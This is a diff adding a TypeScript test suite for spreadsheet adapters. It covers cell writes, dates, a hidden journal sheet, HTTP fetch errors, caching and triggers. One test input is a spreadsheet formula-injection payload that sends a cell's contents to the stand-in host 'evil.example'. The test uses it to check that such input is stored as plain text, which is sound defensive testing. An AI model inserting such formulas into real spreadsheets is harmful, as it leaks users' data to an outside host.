@@ -1,0 +1,457 @@
+import { createHash } from "node:crypto";
+import { fileURLToPath } from "node:url";
+import { buildSync } from "esbuild";
+import { afterEach, describe, expect, it } from "vitest";
+import { AppsScriptHost, type HostOptions } from "../../workbench/host/host";
+import { TransportFailure } from "../../workbench/host/transport";
+import { VirtualClock } from "../../workbench/host/virtual-clock";
+import { columnNumber } from "../../workbench/formulas/references";
+import type { Rectangle } from "../../workbench/workbook/rectangle";
+import { Workbook } from "../../workbench/workbook/workbook";
+import { calls } from "./adapters-script";
+
+const OWNER = "owner@demo.example";
+const EDITOR = "editor@demo.example";
+const SHEET = "Sheet1";
+
+const code = script();
+const hosts: AppsScriptHost[] = [];
+
+afterEach(async () => {
+  for (const host of hosts.splice(0)) await host.dispose();
+});
+
+describe("every adapter", () => {
+  it("asks no service while it is made", async () => {
+    const host = open();
+
+    await host.run("nothing");
+
+    expect(host.executions.at(-1)?.calls).toEqual({});
+  });
+});
+
+describe("RangeSheetTable.write", () => {
+  it.each([
+    '=IMPORTXML("https://evil.example/?"&A1,"//a")',
+    "=1+1",
+    "+1",
+    "-1",
+    "@x",
+    "'x",
+    "''x",
+    "'",
+    "00123",
+    "1/2",
+    "11-50",
+    "3-5",
+    "1e5",
+    "12:30",
+    "50%",
+    "TRUE",
+    "Jan 5",
+    "\t=1+1",
+    "\r=1+1",
+    " =1+1",
+    "2024-03-01",
+    "#N/A",
+    "€5",
+    "line\nbreak",
+  ])("lets %j arrive as that text", async (text) => {
+    const host = open();
+
+    await host.run("write", [SHEET, 2, 3, [[text]]]);
+
+    expect(valuesIn(host, "C2")).toEqual([[text]]);
+    expect(host.workbook.activeSheet.getFormulas(box(2, 3, 1, 1))).toEqual([[""]]);
+  });
+
+  it("cuts 60,000 characters visibly", async () => {
+    const host = open();
+
+    await host.run("write", [SHEET, 1, 1, [["x".repeat(60_000)]]]);
+
+    const [[text]] = valuesIn(host, "A1") as [[string]];
+    expect(text).toHaveLength(49_999);
+    expect(text).toMatch(/x… \[cut]$/);
+  });
+
+  it("writes numbers, booleans and blanks as what they are", async () => {
+    const host = open();
+
+    await host.run("write", [SHEET, 1, 1, [[1.5, true, null, ""]]]);
+
+    expect(valuesIn(host, "A1:D1")).toEqual([[1.5, true, "", ""]]);
+  });
+
+  it("writes days and instants as dates in the spreadsheet's time zone, and formats only those", async () => {
+    const host = open();
+    const instant = new Date("2024-07-01T10:30:00Z");
+
+    await host.run("write", [
+      SHEET,
+      2,
+      1,
+      [
+        ["a", day(2024, 3, 1), instant],
+        ["b", null, null],
+        ["c", day(2024, 7, 2), "no date"],
+        [7, "2024-03", instant],
+      ],
+    ]);
+
+    const sheet = host.workbook.activeSheet;
+    expect(sheet.getDisplayValues(box(2, 1, 4, 3))).toEqual([
+      ["a", "2024-03-01", "2024-07-01 12:30"],
+      ["b", "", ""],
+      ["c", "2024-07-02", "no date"],
+      ["7", "2024-03", "2024-07-01 12:30"],
+    ]);
+    expect(valuesIn(host, "B2")).toEqual([[new Date("2024-02-29T23:00:00Z")]]);
+    expect(host.executions.at(-1)?.calls["Range.setNumberFormat"]).toBe(3);
+    expect(sheet.getNumberFormats(box(4, 3, 1, 1))).toEqual([["General"]]);
+  });
+
+  it("grows the sheet first", async () => {
+    const host = open();
+
+    await host.run("write", [SHEET, 1001, 27, [["a"], ["b"]]]);
+
+    expect(valuesIn(host, "AA1002")).toEqual([["b"]]);
+  });
+});
+
+describe("RangeSheetTable", () => {
+  it("keeps a column's tag with the column when it is moved", async () => {
+    const host = open();
+    await host.run("tag", [SHEET, 2, "location.city"]);
+    await host.run("tag", [SHEET, 3, "old"]);
+    await host.run("tag", [SHEET, 3, "technology.names"]);
+
+    host.workbook.activeSheet.moveColumns(2, 1, 6);
+    host.workbook.activeSheet.insertColumns(1, 2);
+
+    expect(new Map((await host.run("tags", [SHEET])) as [string, number][])).toEqual(
+      new Map([
+        ["location.city", 7],
+        ["technology.names", 4],
+      ]),
+    );
+  });
+
+  it("writes headers as text with notes, in bold, and freezes the first row", async () => {
+    const host = open();
+
+    await host.run("writeHeader", [SHEET, 1, 2, [{ label: "=City", note: "location.city" }]]);
+
+    const sheet = host.workbook.activeSheet;
+    expect(valuesIn(host, "B1")).toEqual([["=City"]]);
+    expect(sheet.getFormats(box(1, 2, 1, 1))[0]?.[0]?.fontWeight).toBe("bold");
+    expect(sheet.frozenRows).toBe(1);
+    expect(await host.run("notes", [SHEET, 1])).toEqual([[2, "location.city"]]);
+  });
+
+  it("names rows that somebody has hidden", async () => {
+    const host = open();
+    host.workbook.activeSheet.setRowsHidden(3, 2, true);
+
+    expect(await host.run("hiddenRows", [SHEET, 2, 5])).toEqual([3, 4]);
+  });
+
+  it("names a protected range to whom it is closed, and to nobody else", async () => {
+    const host = open();
+    host.workbook.activeSheet.protect({ editors: [], range: box(1, 3, 10, 1) });
+
+    const ask = (user: string, column: number) =>
+      host.run("whyNotWritable", [SHEET, box(5, column, 2, 1)], { user });
+    expect(await ask(EDITOR, 3)).toBe(
+      'The range C1:C10 of "Sheet1" is protected. Ask its owner to let you edit it, or write elsewhere.',
+    );
+    expect(await ask(EDITOR, 4)).toBeNull();
+    expect(await ask(OWNER, 3)).toBeNull();
+  });
+
+  it("names a validation rule that refuses values, not one that only warns", async () => {
+    const host = open();
+    const sheet = host.workbook.activeSheet;
+    const rule = { criteria: "TEXT_EQUAL_TO", values: ["x"] };
+    sheet.setValidations(box(2, 3, 4, 1), { ...rule, allowInvalid: false });
+    sheet.setValidations(box(2, 2, 4, 1), { ...rule, allowInvalid: true });
+
+    expect(await host.run("whyNotWritable", [SHEET, box(1, 2, 9, 2)])).toMatch(/ in C2:C5 of "Sheet1" /);
+    expect(await host.run("whyNotWritable", [SHEET, box(1, 2, 9, 1)])).toBeNull();
+    expect(await host.run("whyNotWritable", [SHEET, box(2_000, 40, 9, 1)])).toBeNull();
+  });
+});
+
+describe("SpreadsheetAppSpreadsheet", () => {
+  it.each([
+    ["Europe/Berlin", [2024, 3, 31], "2024-03-30T23:00:00.000Z"],
+    ["Pacific/Auckland", [2024, 4, 7], "2024-04-06T11:00:00.000Z"],
+    ["America/Sao_Paulo", [2018, 11, 4], "2018-11-04T03:00:00.000Z"],
+    ["Asia/Kolkata", [1999, 1, 1], "1998-12-31T18:30:00.000Z"],
+  ])("knows when a day begins in %s", async (timeZone, parts, iso) => {
+    const host = open({ timeZone });
+
+    expect(await host.run("midnight", parts)).toEqual(new Date(iso));
+  });
+
+  it("tells every selected rectangle", async () => {
+    const host = open();
+    host.workbook.activeSheet.select([box(2, 1, 9, 1), box(4, 3, 1, 2)]);
+
+    expect(await host.run("selection")).toEqual({
+      sheet: SHEET,
+      boxes: [box(2, 1, 9, 1), box(4, 3, 1, 2)],
+    });
+  });
+
+  it("numbers the name of a new sheet when it is taken", async () => {
+    const host = open();
+
+    expect(await host.run("addSheet", ["sheet1"])).toBe("sheet1 2");
+    expect(host.workbook.sheets.map(({ name }) => name)).toEqual([SHEET, "sheet1 2"]);
+  });
+});
+
+describe("SheetJournalStore", () => {
+  const first = ["ci1", "r1", "=1+1", "", "00123", "x".repeat(50_000)];
+  const second = ["ci1", "r2", "TRUE"];
+
+  it("reads nothing where there is no journal, and makes none", async () => {
+    const host = open();
+
+    expect(await host.run("rowCount")).toBe(0);
+    expect(await host.run("readJournal", [1, 1, 5, 3])).toEqual([]);
+    expect(host.workbook.sheets).toHaveLength(1);
+  });
+
+  it("keeps rows of any length as text, on a hidden sheet behind a warning", async () => {
+    const host = open();
+
+    await host.run("append", [[first, second]]);
+    await host.run("append", [[Array.from({ length: 30 }, () => "1/2")]]);
+
+    expect(await host.run("rowCount")).toBe(3);
+    expect(await host.run("readJournal", [1, 1, 2, 6])).toEqual([first, [...second, "", "", ""]]);
+    expect(await host.run("readJournal", [3, 29, 99, 99])).toContainEqual(["1/2", "1/2"]);
+    const journal = journalOf(host);
+    expect(journal.hidden).toBe(true);
+    expect(journal.protections[0]?.warningOnly).toBe(true);
+    expect(host.workbook.activeSheet.name).toBe(SHEET);
+  });
+
+  it("finds its sheet renamed, moved and shown, and after its metadata is gone", async () => {
+    const host = open();
+    await host.run("append", [[first]]);
+    const journal = journalOf(host);
+    host.workbook.renameSheet(journal, "Mine");
+    host.workbook.moveSheet(journal, 0);
+    journal.setHidden(false);
+
+    await host.run("append", [[second]]);
+    for (const { id } of host.workbook.findMetadata({ key: "ci-journal" })) host.workbook.removeMetadata(id);
+
+    expect(await host.run("readJournal", [1, 2, 2, 1])).toEqual([["r1"], ["r2"]]);
+    expect(host.workbook.sheets).toHaveLength(2);
+  });
+
+  it("loses no row to typing, sorting or a header that is gone", async () => {
+    const host = open();
+    await host.run("append", [
+      [
+        ["ci1", "c"],
+        ["ci1", "b"],
+        ["ci1", "a"],
+      ],
+    ]);
+    const journal = journalOf(host);
+
+    journal.setValues(box(2, 2, 1, 1), [[7]]);
+    journal.sort(box(1, 1, 4, 2), [{ column: 2, ascending: true }]);
+
+    const rows = (await host.run("readJournal", [1, 1, 9, 2])) as string[][];
+    expect(await host.run("rowCount")).toBe(4);
+    expect(rows.slice(0, 3)).toEqual([
+      ["ci1", "7"],
+      ["ci1", "a"],
+      ["ci1", "b"],
+    ]);
+  });
+
+  it("starts a new sheet when somebody deleted it", async () => {
+    const host = open();
+    await host.run("append", [[first]]);
+    host.workbook.deleteSheet(journalOf(host));
+
+    await host.run("append", [[second]]);
+
+    expect(await host.run("readJournal", [1, 2, 1, 1])).toEqual([["r2"]]);
+    expect(host.workbook.findMetadata({ key: "ci-journal" })).toHaveLength(1);
+  });
+
+  it("leaves a lock alone that the execution held before", async () => {
+    const host = open();
+
+    expect(await host.run("appendUnderLock", [[first]])).toBe(true);
+  });
+
+  it("appends without the lock when it cannot be had, in a document without stores as well", async () => {
+    const host = open();
+    const locked = host.run("lockFor", [20_000]);
+
+    await Promise.all([host.run("append", [[first]]), host.run("append", [[second]])]);
+    expect(await locked).toBe(true);
+    expect(host.executions.map((execution) => execution.calls["Sheet.appendRow"])).toEqual([undefined, 1, 1]);
+
+    const storeless = open({ hasDocumentStores: false });
+    await storeless.run("append", [[first, second]]);
+
+    expect(await host.run("rowCount")).toBe(2);
+    expect(host.workbook.sheets).toHaveLength(2);
+    expect(await storeless.run("readJournal", [1, 2, 2, 1])).toEqual([["r1"], ["r2"]]);
+  });
+});
+
+describe("UrlFetchHttp", () => {
+  const secret = "https://demo.example/api/v1/news/?company=secret.example";
+  const get = { method: "GET", url: secret, headers: { "x-api-key": "top-secret" } } as const;
+
+  it("sends all at once and takes error statuses and redirects as replies", async () => {
+    const sent: unknown[] = [];
+    const host = open({
+      transport: (request) => {
+        sent.push([request.method, request.headers["Content-Type"] ?? null, request.body ?? null]);
+        const headers = { "Retry-After": "7", Location: "https://elsewhere.example/", "X-Two": ["a", "b"] };
+        return { status: sent.length === 1 ? 302 : 429, headers, body: '{"é":1}' };
+      },
+    });
+
+    const post = { ...get, method: "POST", body: "{}" };
+    const { replies } = (await host.run("send", [[get, post]])) as ReturnType<typeof calls.send>;
+
+    expect(sent).toEqual([
+      ["GET", null, null],
+      ["POST", "application/json", "{}"],
+    ]);
+    expect(replies?.map(({ status }) => status)).toEqual([302, 429]);
+    expect(replies?.[1]?.headers).toMatchObject({ "retry-after": "7", "x-two": "a, b" });
+    expect(replies?.[1]?.body).toBe('{"é":1}');
+    expect(host.executions.at(-1)?.calls).toMatchObject({ "UrlFetchApp.fetchAll": 1 });
+  });
+
+  it.each([
+    ["dns", "demo.example was not found. Check the address of the service in the settings."],
+    ["hang", "demo.example did not answer within 20 seconds. Try again in a minute."],
+    ["cut", "demo.example could not be reached. Try again in a minute."],
+    ["unavailable", "demo.example could not be reached. Try again in a minute."],
+  ] as const)("says what happened after %s, without the query or the key", async (fault, message) => {
+    const host = open({
+      transport: () => {
+        throw new TransportFailure(fault);
+      },
+    });
+
+    expect(await host.run("send", [[get]])).toEqual({ code: "network/no-reply", message });
+  });
+
+  it("tells the daily quota from a missing reply", async () => {
+    const host = open({ limits: { fetchesPerDay: 1 } });
+
+    expect(await host.run("send", [[get, get]])).toMatchObject({ code: "limit/daily-quota" });
+  });
+});
+
+describe("the smaller adapters", () => {
+  it("digest and compress text in UTF-8", async () => {
+    const host = open();
+    const text = "Zürich 🏔 ".repeat(500);
+
+    expect(await host.run("digest", [text])).toBe(createHash("sha256").update(text).digest("base64url"));
+    expect(await host.run("roundTrip", [text])).toBe(text);
+  });
+
+  it("cache in one call each, and forget everything in a document without a cache", async () => {
+    const entries = [
+      ["a", "1"],
+      ["b", "2"],
+    ];
+    const host = open();
+    const storeless = open({ hasDocumentStores: false });
+
+    expect(await host.run("cached", [entries, ["a"]])).toEqual([["b", "2"]]);
+    expect(host.executions.at(-1)?.calls).toMatchObject({ "Cache.putAll": 1, "Cache.getAll": 1 });
+    expect(await storeless.run("cached", [entries, ["a"]])).toEqual([]);
+  });
+
+  it("keep a user's properties apart from the document's, which may be missing", async () => {
+    expect(await open().run("stores")).toEqual([{ MINE: "1" }, { OURS: "2" }]);
+    expect(await open({ hasDocumentStores: false }).run("stores")).toEqual([{ MINE: "1" }, null]);
+    expect(await open({ hasDocumentStores: false }).run("lockFor", [0])).toBe(false);
+  });
+
+  it("make one hourly trigger, and remove it", async () => {
+    const host = open();
+
+    const id = await host.run("ensureHourly");
+    expect(await host.run("ensureHourly")).toBe(id);
+    await host.run("removeTrigger", [id]);
+
+    expect(await host.run("ensureHourly")).not.toBe(id);
+  });
+
+  it("give no trigger where none is to be had", async () => {
+    const host = open({ limits: { triggersPerUser: 0 } });
+
+    expect(await host.run("ensureHourly")).toBeNull();
+  });
+});
+
+function open({ timeZone, ...options }: Partial<HostOptions> & { timeZone?: string } = {}): AppsScriptHost {
+  const host = new AppsScriptHost({
+    code,
+    clock: new VirtualClock(),
+    owner: OWNER,
+    ...(timeZone === undefined ? {} : { workbook: (parts) => new Workbook({ ...parts, timeZone }) }),
+    ...options,
+  });
+  hosts.push(host);
+  return host;
+}
+
+function journalOf(host: AppsScriptHost) {
+  const journal = host.workbook.sheetNamed("Company Intelligence journal");
+  if (journal === undefined) throw new Error("There is no journal.");
+  return journal;
+}
+
+function valuesIn(host: AppsScriptHost, a1: string): unknown[][] {
+  const [, left, top, right = left, bottom = top] = /^([A-Z]+)(\d+)(?::([A-Z]+)(\d+))?$/.exec(a1)!;
+  const [column, lastColumn] = [columnNumber(left!), columnNumber(right!)];
+  const rows = Number(bottom) - Number(top) + 1;
+  return host.workbook.activeSheet.getValues(box(Number(top), column, rows, lastColumn - column + 1));
+}
+
+function box(row: number, column: number, rows: number, columns: number): Rectangle {
+  return { row, column, rows, columns };
+}
+
+function day(year: number, month: number, date: number) {
+  return { kind: "day", year, month, day: date };
+}
+
+/** The adapters as a script, with one global function for each call. */
+function script(): string {
+  const { outputFiles } = buildSync({
+    entryPoints: [fileURLToPath(new URL("adapters-script.ts", import.meta.url))],
+    bundle: true,
+    write: false,
+    format: "iife",
+    globalName: "Adapters",
+    target: "es2019",
+  });
+  const stubs = Object.keys(calls).map(
+    (name) => `function ${name}(...args) { return Adapters.calls.${name}(...args); }`,
+  );
+  return [outputFiles[0]!.text, ...stubs].join("\n");
+}
